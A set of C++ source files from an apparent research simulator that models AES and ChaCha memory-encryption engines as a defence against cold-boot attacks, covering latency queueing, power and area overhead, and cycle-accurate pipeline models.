 * falls back to buffered with a warning.
 */
std::unique_ptr<DumpSource> openDumpSource(
    const std::string &path, DumpBackend backend = DumpBackend::Auto);

namespace detail
{

/** Signature of pread(2) - what the buffered backend reads with. */
using PreadFn = ssize_t (*)(int fd, void *buf, size_t count,
                            off_t offset);

/**
 * Test shim: route every buffered-backend pread through @p fn
 * (nullptr restores the real pread). Lets tests inject short reads
 * and EINTR - the conditions a loaded many-jobs server hits for real
 * - without a syscall interposer. Not for production use.
 */
void setPreadShimForTest(PreadFn fn);

} // namespace detail

} // namespace coldboot::exec

#endif // COLDBOOT_EXEC_DUMP_IO_HH
