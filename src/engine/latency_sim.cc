#include "engine/latency_sim.hh"

#include <algorithm>
#include <cmath>
#include <string>

#include "common/logging.hh"
#include "obs/stats.hh"

namespace coldboot::engine
{

LatencyResult
simulateBurst(const EngineSpec &spec, const dram::SpeedGrade &grade,
              const LoadPoint &load)
{
    cb_assert(load.utilization > 0.0 && load.utilization <= 1.0,
              "utilization out of range");

    // Per-cipher exposure/latency histograms; bucket edges straddle
    // the 12.5 ns minimum CAS window the paper judges engines by.
    auto &registry = obs::StatRegistry::global();
    std::string prefix =
        std::string("engine.latency.") + cipherKindName(spec.kind);
    obs::Distribution &exposure_ns = registry.distribution(
        prefix + ".window_exposure_ns",
        "keystream exposure beyond the request's own CAS window",
        {0.0, 2.5, 5.0, 7.5, 10.0, 12.5, 15.0, 20.0, 30.0, 50.0,
         100.0});
    obs::Distribution &latency_ns = registry.distribution(
        prefix + ".keystream_latency_ns",
        "keystream generation latency (done - issue)");
    registry.counter("engine.latency.bursts",
                     "burst simulations run").add();

    int burst_depth = load.max_outstanding;

    Picoseconds bus_clock =
        static_cast<Picoseconds>(1.0e6 / grade.bus_mhz + 0.5);
    // Utilization stretches the command spacing: at u = 1 commands
    // arrive every bus clock (the paper's theoretical back-to-back
    // limit); lighter loads spread them out proportionally.
    Picoseconds interarrival = static_cast<Picoseconds>(
        static_cast<double>(bus_clock) / load.utilization + 0.5);
    Picoseconds cas = grade.casLatencyPs();
    Picoseconds burst_slot = grade.burstTimePs();
    Picoseconds engine_clock = spec.periodPs();
    Picoseconds depth_ps = spec.depthCycles() * engine_clock;

    LatencyResult out;
    // Engine ingest port: time the next counter can enter.
    Picoseconds port_free = 0;
    // Data bus: one 64-byte burst slot per request, serialized.
    Picoseconds prev_bus_data = -(1LL << 62);
    for (int k = 0; k < burst_depth; ++k) {
        RequestTiming rt;
        rt.issue_ps = static_cast<Picoseconds>(k) * interarrival;
        // Enqueue counters_per_line counters; one enters per engine
        // clock once the port frees up.
        Picoseconds last_entry = 0;
        for (int c = 0; c < spec.counters_per_line; ++c) {
            Picoseconds entry = std::max(rt.issue_ps, port_free);
            port_free = entry + engine_clock;
            last_entry = entry;
        }
        rt.keystream_done_ps = last_entry + depth_ps;
        rt.window_data_ps = rt.issue_ps + cas;
        rt.bus_data_ps = std::max(rt.window_data_ps,
                                  prev_bus_data + burst_slot);
        prev_bus_data = rt.bus_data_ps;
        exposure_ns.sample(psToNs(std::max<Picoseconds>(
            0, rt.keystream_done_ps - rt.window_data_ps)));
        latency_ns.sample(
            psToNs(rt.keystream_done_ps - rt.issue_ps));
        out.requests.push_back(rt);

        out.max_keystream_latency_ps =
            std::max(out.max_keystream_latency_ps,
                     rt.keystream_done_ps - rt.issue_ps);
        out.max_window_exposure_ps =
            std::max(out.max_window_exposure_ps,
                     std::max<Picoseconds>(
                         0, rt.keystream_done_ps - rt.window_data_ps));
        out.max_bus_exposure_ps = std::max(
            out.max_bus_exposure_ps,
            std::max<Picoseconds>(
                0, rt.keystream_done_ps - rt.bus_data_ps));
    }
    return out;
}

std::vector<SweepRow>
figure6Sweep(const dram::SpeedGrade &grade,
             const std::vector<double> &utilizations)
{
    std::vector<SweepRow> rows;
    for (const auto &spec : tableIIEngines()) {
        for (double u : utilizations) {
            SweepRow row;
            row.kind = spec.kind;
            row.utilization = u;
            row.result = simulateBurst(spec, grade, {u, 18});
            rows.push_back(std::move(row));
        }
    }
    return rows;
}

} // namespace coldboot::engine
