#include "engine/power_model.hh"

namespace coldboot::engine
{

const std::vector<ReferenceCpu> &
referenceCpus()
{
    // Product-sheet figures for the paper's four 45 nm parts.
    static const std::vector<ReferenceCpu> cpus = {
        {"Atom N280", "mobile", 25.9, 2.5, 1},
        {"Core i3-330M", "desktop", 81.0, 35.0, 2},
        {"Core i5-700", "high-end desktop", 296.0, 95.0, 2},
        {"Xeon W3520", "server", 263.0, 130.0, 3},
    };
    return cpus;
}

std::vector<OverheadRow>
figure7Overheads(const std::vector<CipherKind> &engines)
{
    std::vector<OverheadRow> rows;
    for (const auto &cpu : referenceCpus()) {
        for (CipherKind kind : engines) {
            const EngineSpec &spec = engineSpec(kind);
            OverheadRow row;
            row.cpu = cpu.name;
            row.engine = kind;
            double n = static_cast<double>(cpu.channels);
            row.area_fraction = n * spec.area_mm2 / cpu.die_mm2;
            row.power_fraction_full =
                n * spec.powerAtUtilizationMw(1.0) /
                (cpu.tdp_w * 1000.0);
            row.power_fraction_20 =
                n * spec.powerAtUtilizationMw(0.2) /
                (cpu.tdp_w * 1000.0);
            rows.push_back(std::move(row));
        }
    }
    return rows;
}

} // namespace coldboot::engine
