/**
 * @file
 * Event-driven queueing model of a cipher engine serving a burst of
 * back-to-back DDR4 column reads (the Figure 6 experiment).
 *
 * Model: the memory controller issues a burst of back-to-back CAS
 * commands (18 at DDR4-2400, the paper's theoretical limit) spaced
 * one bus clock apart at 100% bandwidth utilization and
 * proportionally further apart at lighter loads.
 * Each command enqueues counters_per_line counter blocks at the
 * cipher engine, which ingests one counter per engine clock through
 * its pipeline. A request's keystream is complete when its last
 * counter leaves the pipeline.
 *
 * Two exposure accountings are reported:
 *  - window: keystream completion measured against the request's own
 *    CAS window (command time + 12.5 ns). This is the paper's
 *    conservative accounting; a cipher with zero window exposure
 *    hides entirely behind even the fastest possible read.
 *  - bus: measured against the bus-serialized data return (CAS plus
 *    one 64-byte burst slot per earlier request). Under bursts the
 *    data bus itself backs up, so this accounting credits the engine
 *    with that extra slack.
 *
 * ChaCha engines ingest one counter per command and clock faster
 * than any DDR4 bus, so their queue never builds; AES engines need 4
 * counters per command and fall behind when commands arrive at bus
 * rate - exactly the effect the paper describes.
 */

#ifndef COLDBOOT_ENGINE_LATENCY_SIM_HH
#define COLDBOOT_ENGINE_LATENCY_SIM_HH

#include <vector>

#include "dram/timing.hh"
#include "engine/cipher_engine.hh"

namespace coldboot::engine
{

/** Simulation input. */
struct LoadPoint
{
    /** Bandwidth utilization in (0, 1]. */
    double utilization = 1.0;
    /** Max back-to-back CAS commands at full utilization. */
    int max_outstanding = 18;
};

/** Per-request simulation output. */
struct RequestTiming
{
    /** Command issue time. */
    Picoseconds issue_ps;
    /** Keystream completion time. */
    Picoseconds keystream_done_ps;
    /** Data available (own CAS window). */
    Picoseconds window_data_ps;
    /** Data available (bus-serialized). */
    Picoseconds bus_data_ps;
};

/** Aggregated results for one (engine, load) point. */
struct LatencyResult
{
    /** Worst keystream generation latency (done - issue). */
    Picoseconds max_keystream_latency_ps = 0;
    /** Worst exposure vs the own-window accounting (>= 0). */
    Picoseconds max_window_exposure_ps = 0;
    /** Worst exposure vs the bus accounting (>= 0). */
    Picoseconds max_bus_exposure_ps = 0;
    /** Per-request detail. */
    std::vector<RequestTiming> requests;
};

/**
 * Simulate one engine serving one load burst.
 *
 * @param spec  Cipher engine under test.
 * @param grade DDR4 speed grade (bus clock + CAS latency).
 * @param load  Load point (utilization scales the burst depth).
 */
LatencyResult simulateBurst(const EngineSpec &spec,
                            const dram::SpeedGrade &grade,
                            const LoadPoint &load);

/**
 * The Figure 6 sweep: every Table II engine across utilizations.
 * Returns one row per (engine, utilization) pair in engine-major
 * order.
 */
struct SweepRow
{
    CipherKind kind;
    double utilization;
    LatencyResult result;
};

std::vector<SweepRow> figure6Sweep(
    const dram::SpeedGrade &grade = dram::ddr4_2400(),
    const std::vector<double> &utilizations = {0.1, 0.2, 0.3, 0.4,
                                               0.5, 0.6, 0.7, 0.8,
                                               0.9, 1.0});

} // namespace coldboot::engine

#endif // COLDBOOT_ENGINE_LATENCY_SIM_HH
