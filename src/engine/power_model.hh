/**
 * @file
 * Power and area overhead model for replacing scramblers with strong
 * cipher engines (the Figure 7 experiment).
 *
 * One engine instance per memory channel is assumed, as in the
 * paper. Reference CPUs are the four 45 nm parts the paper compares
 * against, with die area, TDP, and channel count from their product
 * sheets. Engine area/power come from the calibrated EngineSpec
 * values; dynamic power scales linearly with bandwidth utilization
 * (the paper evaluates 100% and a more realistic 20%, citing the
 * CloudSuite finding that even scale-out workloads rarely exceed
 * ~15% DRAM bandwidth).
 */

#ifndef COLDBOOT_ENGINE_POWER_MODEL_HH
#define COLDBOOT_ENGINE_POWER_MODEL_HH

#include <string>
#include <vector>

#include "engine/cipher_engine.hh"

namespace coldboot::engine
{

/** A reference CPU from the paper's Figure 7. */
struct ReferenceCpu
{
    std::string name;
    std::string segment;
    /** Die area, mm^2 (45 nm). */
    double die_mm2;
    /** Thermal design power, W. */
    double tdp_w;
    /** Memory channels (one engine instance each). */
    int channels;
};

/** The four 45 nm comparison CPUs. */
const std::vector<ReferenceCpu> &referenceCpus();

/** One Figure 7 data point. */
struct OverheadRow
{
    std::string cpu;
    CipherKind engine;
    /** Engine area as a fraction of die area (all channels). */
    double area_fraction;
    /** Engine power / TDP at 100% bandwidth utilization. */
    double power_fraction_full;
    /** Engine power / TDP at 20% bandwidth utilization. */
    double power_fraction_20;
};

/**
 * Compute the Figure 7 table for the given engines (defaults to the
 * two the paper recommends: AES-128 and ChaCha8).
 */
std::vector<OverheadRow> figure7Overheads(
    const std::vector<CipherKind> &engines = {CipherKind::Aes128,
                                              CipherKind::ChaCha8});

} // namespace coldboot::engine

#endif // COLDBOOT_ENGINE_POWER_MODEL_HH
