/**
 * @file
 * Analytic models of the hardware cipher engines from Section IV.
 *
 * Substitution note (DESIGN.md): the paper derives these parameters
 * from RTL synthesis of AES/ChaCha pipelines in 45 nm SOI with
 * Synopsys Design Compiler. We model each engine by the synthesis
 * results the paper reports (Table II): maximum clock frequency,
 * cycles to produce a 64-byte keystream, and the derived maximum
 * pipeline delay. The queueing and overhead analyses (Figures 6 and
 * 7) are arithmetic on these datapoints plus DDR4 bus parameters, so
 * they reproduce from the same inputs.
 *
 * Pipeline structure behind the cycle counts:
 *  - AES engines pipeline one round per stage (1 cycle per round) and
 *    accept one 16-byte counter block per cycle; a 64-byte line needs
 *    4 counters, so the last of them leaves the pipeline 3 issue
 *    cycles after the first: cycles = rounds + 3.
 *  - ChaCha engines split each quarter round into 2 pipeline stages
 *    (doubling the clock), producing a full 64-byte keystream from a
 *    single counter: cycles = 2 * rounds + 2.
 */

#ifndef COLDBOOT_ENGINE_CIPHER_ENGINE_HH
#define COLDBOOT_ENGINE_CIPHER_ENGINE_HH

#include <string>
#include <vector>

#include "common/units.hh"

namespace coldboot::engine
{

/** Identity of a modeled cipher engine. */
enum class CipherKind
{
    Aes128,
    Aes256,
    ChaCha8,
    ChaCha12,
    ChaCha20,
};

/** Printable engine name. */
const char *cipherKindName(CipherKind kind);

/**
 * Synthesis-derived parameters of one cipher engine (Table II), plus
 * the physical-design numbers used by the Figure 7 overhead model.
 */
struct EngineSpec
{
    CipherKind kind;
    /** Maximum clock frequency in GHz (45 nm SOI synthesis). */
    double max_freq_ghz;
    /** Cycles from first counter issue to full 64 B keystream. */
    int cycles_per_line;
    /** Counter blocks the engine must ingest per 64-byte line. */
    int counters_per_line;
    /** Cell area of one engine instance in mm^2 (45 nm). */
    double area_mm2;
    /** Dynamic power at 100% bandwidth utilization, mW. */
    double dynamic_power_mw;
    /** Static (leakage) power, mW. */
    double static_power_mw;

    /** Clock period in picoseconds. */
    Picoseconds periodPs() const
    {
        return periodPsFromGHz(max_freq_ghz);
    }

    /**
     * Maximum pipeline delay: time from issuing the first counter to
     * the complete 64-byte keystream, with no queueing (Table II's
     * rightmost column).
     */
    Picoseconds pipelineDelayPs() const
    {
        return cycles_per_line * periodPs();
    }

    /** Pipeline depth in cycles for one counter block. */
    int depthCycles() const
    {
        return cycles_per_line - (counters_per_line - 1);
    }

    /** Keystream throughput at max clock, GB/s. */
    double throughputGBs() const;

    /** Total power at a given bandwidth utilization (0..1), mW. */
    double powerAtUtilizationMw(double utilization) const;
};

/** The five engines of Table II. */
const std::vector<EngineSpec> &tableIIEngines();

/** Look up a single engine spec. */
const EngineSpec &engineSpec(CipherKind kind);

} // namespace coldboot::engine

#endif // COLDBOOT_ENGINE_CIPHER_ENGINE_HH
