/**
 * @file
 * Drop-in scrambler replacements built on real stream ciphers - the
 * paper's proposed defence. Each implements the memctrl::Scrambler
 * interface so a Machine can be constructed with strongly encrypted
 * memory instead of the stock scrambler, with no other changes.
 *
 * Keystream setup follows Section IV-B: the physical (line) address
 * is the counter, and the key and nonce are drawn fresh from the
 * boot-time entropy source on every reseed. Unlike the LFSR
 * scramblers there is no small key pool: every line gets a
 * cryptographically independent keystream, so zero-filled blocks
 * reveal nothing and the scrambler-key litmus test finds no
 * structure.
 */

#ifndef COLDBOOT_ENGINE_ENCRYPTED_CONTROLLER_HH
#define COLDBOOT_ENGINE_ENCRYPTED_CONTROLLER_HH

#include <memory>

#include "crypto/chacha.hh"
#include "crypto/ctr.hh"
#include "memctrl/memory_controller.hh"
#include "memctrl/scrambler.hh"

namespace coldboot::engine
{

/**
 * Memory "scrambler" backed by ChaCha keystream (8/12/20 rounds).
 */
class ChaChaMemoryEncryptor : public memctrl::Scrambler
{
  public:
    /**
     * @param seed    Boot-time seed (expands to key + nonce).
     * @param channel Channel number (diversifies per channel).
     * @param rounds  ChaCha round count (8, 12 or 20).
     */
    ChaChaMemoryEncryptor(uint64_t seed, unsigned channel,
                          int rounds = 8);

    void lineKey(uint64_t phys_addr,
                 uint8_t key[memctrl::lineBytes]) const override;
    void reseed(uint64_t seed) override;
    size_t distinctKeys() const override;
    const char *name() const override { return "chacha-encryptor"; }

  private:
    void rekey(uint64_t seed);

    unsigned chan;
    int nrounds;
    std::unique_ptr<crypto::ChaCha> cipher;
};

/**
 * Memory "scrambler" backed by AES-CTR keystream.
 */
class AesCtrMemoryEncryptor : public memctrl::Scrambler
{
  public:
    /**
     * @param seed     Boot-time seed (expands to key + nonce).
     * @param channel  Channel number.
     * @param key_bytes AES key length (16 or 32).
     */
    AesCtrMemoryEncryptor(uint64_t seed, unsigned channel,
                          size_t key_bytes = 16);

    void lineKey(uint64_t phys_addr,
                 uint8_t key[memctrl::lineBytes]) const override;
    void reseed(uint64_t seed) override;
    size_t distinctKeys() const override;
    const char *name() const override { return "aes-ctr-encryptor"; }

  private:
    void rekey(uint64_t seed);

    unsigned chan;
    size_t key_len;
    std::unique_ptr<crypto::AesCtr> cipher;
};

/** Factory for Machine construction: ChaCha-encrypted memory. */
memctrl::ScramblerFactory chachaEncryptionFactory(int rounds = 8);

/** Factory for Machine construction: AES-CTR-encrypted memory. */
memctrl::ScramblerFactory aesCtrEncryptionFactory(
    size_t key_bytes = 16);

} // namespace coldboot::engine

#endif // COLDBOOT_ENGINE_ENCRYPTED_CONTROLLER_HH
