/**
 * @file
 * Cycle-accurate structural models of the cipher pipelines whose
 * 45 nm synthesis the paper reports in Table II.
 *
 * Where `cipher_engine.hh` models the engines analytically (cycle
 * counts and frequencies), these classes model them structurally:
 * registers between stages, one stage of combinational work per
 * clock, an ingest port that accepts at most one counter block per
 * cycle. Each stage computes the *actual* cipher datapath (shared
 * with src/crypto), so the keystreams that fall out of the pipeline
 * are bit-exact with the behavioural implementations - cross-checked
 * by tests - while the cycle at which they fall out reproduces the
 * Table II latencies and the Figure 6 queueing behaviour from first
 * principles.
 *
 * Pipeline structures (per the paper's Section IV-B):
 *  - AES: one round per stage (the repipelined 1-cycle-per-round
 *    design; depth = rounds, with the initial AddRoundKey folded
 *    into issue). A 64-byte line needs 4 counter issues.
 *  - ChaCha: each quarter-round column/diagonal layer is split into
 *    2 pipeline stages (the paper's "2 stages per quarter round",
 *    which doubles the clock); depth = 2*rounds + 2 including the
 *    state-load and final feed-forward-add stages. One counter
 *    issue produces a whole 64-byte line.
 */

#ifndef COLDBOOT_ENGINE_PIPELINED_ENGINES_HH
#define COLDBOOT_ENGINE_PIPELINED_ENGINES_HH

#include <array>
#include <cstdint>
#include <optional>
#include <vector>

#include "common/units.hh"
#include "crypto/aes.hh"
#include "crypto/chacha.hh"
#include "engine/cipher_engine.hh"
#include "obs/stats.hh"

namespace coldboot::engine
{

/** A 64-byte keystream leaving a pipeline. */
// coldboot-lint: allow(wipe-coverage) -- simulated hardware keystream latch, recycled every cycle
struct LineCompletion
{
    /** Caller-chosen request id. */
    uint64_t req_id;
    /** Cycle number at which the full line became available. */
    uint64_t cycle;
    /** The keystream bytes. */
    std::array<uint8_t, 64> keystream;
};

/**
 * Common interface of the structural pipeline models.
 */
class PipelinedEngine
{
  public:
    virtual ~PipelinedEngine() = default;

    /**
     * Request the keystream for one 64-byte line. The request is
     * queued at the ingest port; counters enter the pipeline one per
     * clock.
     */
    virtual void request(uint64_t req_id, uint64_t line_addr) = 0;

    /** Advance one clock edge. */
    virtual void clock() = 0;

    /** Completions produced by the most recent clock edge. */
    virtual std::vector<LineCompletion> drain() = 0;

    /** Whether any work is in flight (queue or stages). */
    virtual bool busy() const = 0;

    /** Current cycle number. */
    virtual uint64_t cycleCount() const = 0;

    /** Clock period (from the corresponding Table II entry). */
    virtual Picoseconds periodPs() const = 0;
};

/**
 * The 1-cycle-per-round AES-CTR pipeline.
 */
class PipelinedAesEngine : public PipelinedEngine
{
  public:
    /**
     * @param key   AES key (16 or 32 bytes; selects AES-128/256).
     * @param nonce 8-byte boot nonce (high half of counter blocks).
     */
    PipelinedAesEngine(std::span<const uint8_t> key,
                       std::span<const uint8_t> nonce);

    void request(uint64_t req_id, uint64_t line_addr) override;
    void clock() override;
    std::vector<LineCompletion> drain() override;
    bool busy() const override;
    uint64_t cycleCount() const override { return cycle; }
    Picoseconds periodPs() const override;

    /** Pipeline depth in stages (= AES rounds). */
    unsigned depth() const { return stages.size(); }

  private:
    struct StageReg
    {
        bool valid = false;
        uint64_t req_id = 0;
        unsigned sub = 0; // which of the 4 counters of the line
        std::array<uint8_t, 16> state{};
    };
    struct PendingCounter
    {
        uint64_t req_id;
        uint64_t line_addr;
        unsigned sub;
    };

    crypto::Aes aes;
    std::array<uint8_t, 8> nonce_bytes;
    std::vector<StageReg> stages;
    std::vector<PendingCounter> ingest_queue;
    /** Per-request assembly of the four 16-byte sub-blocks. */
    struct Assembly
    {
        uint64_t req_id;
        std::array<uint8_t, 64> bytes{};
        unsigned done = 0;
    };
    std::vector<Assembly> assembling;
    std::vector<LineCompletion> completions;
    /** `engine.pipelined.aes.queue_depth`, sampled every clock. */
    obs::Distribution *queue_depth_dist;
    /** `engine.pipelined.aes.lines_completed`. */
    obs::Counter *lines_completed;
    uint64_t cycle = 0;
};

/**
 * The 2-stages-per-quarter-round ChaCha pipeline.
 */
// coldboot-lint: allow(wipe-coverage) -- simulated scrambler datapath registers, synthetic keys
class PipelinedChaChaEngine : public PipelinedEngine
{
  public:
    /**
     * @param key    32-byte key.
     * @param nonce  8-byte nonce.
     * @param rounds 8, 12 or 20.
     */
    PipelinedChaChaEngine(std::span<const uint8_t> key,
                          std::span<const uint8_t> nonce, int rounds);

    void request(uint64_t req_id, uint64_t line_addr) override;
    void clock() override;
    std::vector<LineCompletion> drain() override;
    bool busy() const override;
    uint64_t cycleCount() const override { return cycle; }
    Picoseconds periodPs() const override;

    /** Pipeline depth in stages (2*rounds + 2). */
    unsigned depth() const { return stages.size(); }

  private:
    struct StageReg
    {
        bool valid = false;
        uint64_t req_id = 0;
        std::array<uint32_t, 16> x{};    // working state
        std::array<uint32_t, 16> init{}; // carried for the final add
    };

    std::array<uint32_t, 8> key_words;
    std::array<uint32_t, 2> nonce_words;
    int nrounds;
    std::vector<StageReg> stages;
    std::vector<std::pair<uint64_t, uint64_t>> ingest_queue;
    std::vector<LineCompletion> completions;
    /** `engine.pipelined.chacha.queue_depth`, sampled every clock. */
    obs::Distribution *queue_depth_dist;
    /** `engine.pipelined.chacha.lines_completed`. */
    obs::Counter *lines_completed;
    uint64_t cycle = 0;
};

} // namespace coldboot::engine

#endif // COLDBOOT_ENGINE_PIPELINED_ENGINES_HH
