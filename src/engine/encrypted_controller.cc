#include "engine/encrypted_controller.hh"

#include <vector>

#include "common/logging.hh"
#include "common/rng.hh"

namespace coldboot::engine
{

namespace
{

/**
 * Expand a 64-bit boot seed into key + nonce material. A real
 * implementation would pull these from a hardware TRNG at boot; the
 * simulation derives them deterministically so experiments
 * reproduce.
 */
std::vector<uint8_t>
expandSeed(uint64_t seed, unsigned channel, size_t bytes)
{
    Xoshiro256StarStar rng(seed ^
                           (0xE4C27 + (static_cast<uint64_t>(channel)
                                       << 40)));
    std::vector<uint8_t> out(bytes);
    rng.fillBytes(out);
    return out;
}

} // anonymous namespace

ChaChaMemoryEncryptor::ChaChaMemoryEncryptor(uint64_t seed,
                                             unsigned channel,
                                             int rounds)
    : chan(channel), nrounds(rounds)
{
    rekey(seed);
}

void
ChaChaMemoryEncryptor::rekey(uint64_t seed)
{
    auto material = expandSeed(seed, chan, 40);
    cipher = std::make_unique<crypto::ChaCha>(
        std::span<const uint8_t>(material.data(), 32),
        std::span<const uint8_t>(material.data() + 32, 8), nrounds);
}

void
ChaChaMemoryEncryptor::lineKey(uint64_t phys_addr,
                               uint8_t key[memctrl::lineBytes]) const
{
    // Physical line address as the block counter (Section IV-B).
    cipher->keystreamBlock(phys_addr >> 6, key);
}

void
ChaChaMemoryEncryptor::reseed(uint64_t seed)
{
    rekey(seed);
}

size_t
ChaChaMemoryEncryptor::distinctKeys() const
{
    // Every line has an independent keystream; the "pool" is the
    // whole counter space.
    return SIZE_MAX;
}

AesCtrMemoryEncryptor::AesCtrMemoryEncryptor(uint64_t seed,
                                             unsigned channel,
                                             size_t key_bytes)
    : chan(channel), key_len(key_bytes)
{
    if (key_bytes != 16 && key_bytes != 24 && key_bytes != 32)
        // coldboot-lint: allow(log-no-secrets) -- key length, not bytes
        cb_fatal("AesCtrMemoryEncryptor: bad key length %zu",
                 key_bytes);
    rekey(seed);
}

void
AesCtrMemoryEncryptor::rekey(uint64_t seed)
{
    auto material = expandSeed(seed, chan, key_len + 8);
    cipher = std::make_unique<crypto::AesCtr>(
        std::span<const uint8_t>(material.data(), key_len),
        std::span<const uint8_t>(material.data() + key_len, 8));
}

void
AesCtrMemoryEncryptor::lineKey(uint64_t phys_addr,
                               uint8_t key[memctrl::lineBytes]) const
{
    cipher->lineKeystream(phys_addr >> 6, key);
}

void
AesCtrMemoryEncryptor::reseed(uint64_t seed)
{
    rekey(seed);
}

size_t
AesCtrMemoryEncryptor::distinctKeys() const
{
    return SIZE_MAX;
}

memctrl::ScramblerFactory
chachaEncryptionFactory(int rounds)
{
    return [rounds](uint64_t seed, unsigned channel) {
        return std::make_unique<ChaChaMemoryEncryptor>(seed, channel,
                                                       rounds);
    };
}

memctrl::ScramblerFactory
aesCtrEncryptionFactory(size_t key_bytes)
{
    return [key_bytes](uint64_t seed, unsigned channel) {
        return std::make_unique<AesCtrMemoryEncryptor>(seed, channel,
                                                       key_bytes);
    };
}

} // namespace coldboot::engine
