#include "engine/cipher_engine.hh"

#include "common/logging.hh"

namespace coldboot::engine
{

const char *
cipherKindName(CipherKind kind)
{
    switch (kind) {
      case CipherKind::Aes128: return "AES-128";
      case CipherKind::Aes256: return "AES-256";
      case CipherKind::ChaCha8: return "ChaCha8";
      case CipherKind::ChaCha12: return "ChaCha12";
      case CipherKind::ChaCha20: return "ChaCha20";
    }
    return "?";
}

double
EngineSpec::throughputGBs() const
{
    // One counter accepted per cycle; a line needs counters_per_line
    // of them, so line rate = freq / counters_per_line.
    double lines_per_ns = max_freq_ghz / counters_per_line;
    return lines_per_ns * 64.0;
}

double
EngineSpec::powerAtUtilizationMw(double utilization) const
{
    cb_assert(utilization >= 0.0 && utilization <= 1.0,
              "utilization out of range");
    return static_power_mw + dynamic_power_mw * utilization;
}

const std::vector<EngineSpec> &
tableIIEngines()
{
    // Frequencies and cycle counts per the paper's Table II (45 nm
    // SOI synthesis). Area and power calibrated to reproduce the
    // Figure 7 overhead percentages (about 1% area; <3% power on
    // desktop/server parts; up to ~17% peak / <6% typical on Atom).
    static const std::vector<EngineSpec> engines = {
        {CipherKind::Aes128, 2.40, 13, 4, 0.18, 300.0, 40.0},
        {CipherKind::Aes256, 2.40, 17, 4, 0.24, 340.0, 48.0},
        {CipherKind::ChaCha8, 1.96, 18, 1, 0.23, 370.0, 45.0},
        {CipherKind::ChaCha12, 1.96, 26, 1, 0.31, 430.0, 56.0},
        {CipherKind::ChaCha20, 1.96, 42, 1, 0.47, 540.0, 78.0},
    };
    return engines;
}

const EngineSpec &
engineSpec(CipherKind kind)
{
    for (const auto &e : tableIIEngines())
        if (e.kind == kind)
            return e;
    cb_panic("unknown cipher kind");
}

} // namespace coldboot::engine
