#include "engine/pipelined_engines.hh"

#include <algorithm>

#include "common/bits.hh"
#include "common/logging.hh"

namespace coldboot::engine
{

//
// AES pipeline
//

PipelinedAesEngine::PipelinedAesEngine(std::span<const uint8_t> key,
                                       std::span<const uint8_t> nonce)
    : aes(key)
{
    if (key.size() != 16 && key.size() != 32)
        cb_fatal("PipelinedAesEngine models AES-128/AES-256 only");
    if (nonce.size() != 8)
        cb_fatal("PipelinedAesEngine nonce must be 8 bytes");
    std::copy(nonce.begin(), nonce.end(), nonce_bytes.begin());
    stages.resize(static_cast<size_t>(aes.rounds()));
    auto &registry = obs::StatRegistry::global();
    queue_depth_dist = &registry.distribution(
        "engine.pipelined.aes.queue_depth",
        "counters waiting at the AES ingest port, sampled per clock",
        {0, 1, 2, 4, 8, 16, 32, 64});
    lines_completed = &registry.counter(
        "engine.pipelined.aes.lines_completed",
        "64-byte keystream lines completed by the AES pipeline");
}

Picoseconds
PipelinedAesEngine::periodPs() const
{
    return engineSpec(aes.keySize() == crypto::AesKeySize::Aes128
                          ? CipherKind::Aes128
                          : CipherKind::Aes256)
        .periodPs();
}

void
PipelinedAesEngine::request(uint64_t req_id, uint64_t line_addr)
{
    for (unsigned sub = 0; sub < 4; ++sub)
        ingest_queue.push_back({req_id, line_addr, sub});
    assembling.push_back({req_id, {}, 0});
}

void
PipelinedAesEngine::clock()
{
    ++cycle;
    queue_depth_dist->sample(
        static_cast<double>(ingest_queue.size()));
    const uint8_t *sched = aes.schedule().data();
    unsigned nr = static_cast<unsigned>(aes.rounds());

    // Shift the pipeline from the back (the stage registers update
    // simultaneously on the clock edge; iterating back-to-front
    // emulates that with sequential code).
    for (unsigned k = nr - 1; k > 0; --k) {
        if (stages[k - 1].valid) {
            StageReg next = stages[k - 1];
            crypto::aesRoundEncrypt(next.state.data(),
                                    sched + 16 * (k + 1),
                                    (k + 1) == nr);
            stages[k] = next;
        } else {
            stages[k].valid = false;
        }
    }

    // Ingest port: at most one counter enters per cycle.
    if (!ingest_queue.empty()) {
        PendingCounter pc = ingest_queue.front();
        ingest_queue.erase(ingest_queue.begin());
        StageReg reg;
        reg.valid = true;
        reg.req_id = pc.req_id;
        reg.sub = pc.sub;
        // Counter block: nonce[0:8] || LE64((line_addr << 2) | sub).
        std::copy(nonce_bytes.begin(), nonce_bytes.end(),
                  reg.state.begin());
        storeLE64(&reg.state[8], (pc.line_addr << 2) | pc.sub);
        crypto::aesAddRoundKey(reg.state.data(), sched);
        crypto::aesRoundEncrypt(reg.state.data(), sched + 16,
                                nr == 1);
        stages[0] = reg;
    } else {
        stages[0].valid = false;
    }

    // Collect the sub-block leaving the final stage.
    const StageReg &out = stages[nr - 1];
    if (out.valid) {
        for (auto &asm_entry : assembling) {
            if (asm_entry.req_id != out.req_id)
                continue;
            std::copy(out.state.begin(), out.state.end(),
                      asm_entry.bytes.begin() + 16 * out.sub);
            if (++asm_entry.done == 4) {
                completions.push_back(
                    {asm_entry.req_id, cycle, asm_entry.bytes});
                lines_completed->add();
                asm_entry.done = ~0u; // mark consumed
            }
            break;
        }
        assembling.erase(
            std::remove_if(assembling.begin(), assembling.end(),
                           [](const Assembly &a) {
                               return a.done == ~0u;
                           }),
            assembling.end());
    }
}

std::vector<LineCompletion>
PipelinedAesEngine::drain()
{
    auto out = std::move(completions);
    completions.clear();
    return out;
}

bool
PipelinedAesEngine::busy() const
{
    if (!ingest_queue.empty() || !assembling.empty())
        return true;
    for (const auto &s : stages)
        if (s.valid)
            return true;
    return false;
}

//
// ChaCha pipeline
//

namespace
{

inline void
halfQuarterRound(uint32_t &a, uint32_t &b, uint32_t &c, uint32_t &d,
                 bool second)
{
    if (!second) {
        a += b; d ^= a; d = rotl32(d, 16);
        c += d; b ^= c; b = rotl32(b, 12);
    } else {
        a += b; d ^= a; d = rotl32(d, 8);
        c += d; b ^= c; b = rotl32(b, 7);
    }
}

/** One half of a column or diagonal round over the full state. */
void
halfRoundLayer(std::array<uint32_t, 16> &x, unsigned round,
               bool second)
{
    if (round % 2 == 0) {
        // Column round.
        for (int i = 0; i < 4; ++i)
            halfQuarterRound(x[i], x[4 + i], x[8 + i], x[12 + i],
                             second);
    } else {
        // Diagonal round.
        halfQuarterRound(x[0], x[5], x[10], x[15], second);
        halfQuarterRound(x[1], x[6], x[11], x[12], second);
        halfQuarterRound(x[2], x[7], x[8], x[13], second);
        halfQuarterRound(x[3], x[4], x[9], x[14], second);
    }
}

const uint32_t chachaSigma[4] = {
    0x61707865, 0x3320646e, 0x79622d32, 0x6b206574,
};

} // anonymous namespace

